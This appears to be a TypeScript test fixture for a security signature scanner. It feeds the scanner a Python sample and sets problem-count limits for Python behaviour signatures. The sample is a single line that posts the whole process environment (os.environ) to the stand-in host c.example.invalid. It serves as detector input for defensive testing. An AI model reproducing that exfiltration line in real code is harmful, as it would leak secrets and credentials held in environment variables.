import { fileURLToPath } from 'node:url';
import type { Problem } from '../../src/model/index.js';
import { completeSet, loadSignatures, scanSignatures } from '../../src/signatures/index.js';
import { memoryTree } from './memory-tree.js';

const CODE = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";

async function problemsOfFlow(): Promise<readonly Problem[]> {
  const folder = fileURLToPath(new URL('../../signatures', import.meta.url));
  const signatures = completeSet(await loadSignatures(folder));
  return (await scanSignatures({ tree: memoryTree({ 'a.py': CODE }), packages: [], signatures })).problems;
}

/** Drives limits on code in Python over their values. */
export const PYTHON_LIMITS = {
  'behaviour-python-steps': { to: 0, give: problemsOfFlow },
  'behaviour-python-file': { to: 10, give: problemsOfFlow },
};
